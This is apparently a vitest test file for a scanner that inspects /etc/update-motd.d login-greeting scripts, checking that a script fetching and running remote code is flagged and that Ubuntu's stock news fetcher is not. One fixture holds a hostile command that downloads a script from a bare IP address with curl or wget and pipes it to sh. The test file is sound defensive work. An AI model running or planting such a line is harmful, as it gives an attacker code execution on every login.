import { expect, test } from 'vitest';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { messageOfTheDay } from './message-of-the-day.ts';

test('a greeting that fetches and runs is told openly', () => {
  const found = openSightings(messageOfTheDay, {
    '/etc/update-motd.d/10-uname': '#!/bin/sh\nuname -a\n',
    '/etc/update-motd.d/99-news':
      '#!/bin/sh\n(curl -s http://198.51.100.7/m.sh || wget -qO- http://198.51.100.7/m.sh) | sh\n',
  });
  expect(found).toMatchObject([{ path: '/etc/update-motd.d/99-news', line: 2, ...because('fetches-and-runs') }]);
});

test('greetings as distributions bring them are told aside', () => {
  const news =
    '#!/bin/sh\nif NEWS=$(curl --connect-timeout 2 -A "$U" -o- "https://motd.ubuntu.com/"); then\n echo "$NEWS"\nfi\n';
  const files = {
    '/etc/update-motd.d/50-motd-news': news,
    '/etc/update-motd.d/00-header': '#!/bin/sh\nprintf hello\n',
  };
  expect(sightings(messageOfTheDay, files)).toMatchObject([{ aside: true }, { aside: true }]);
});
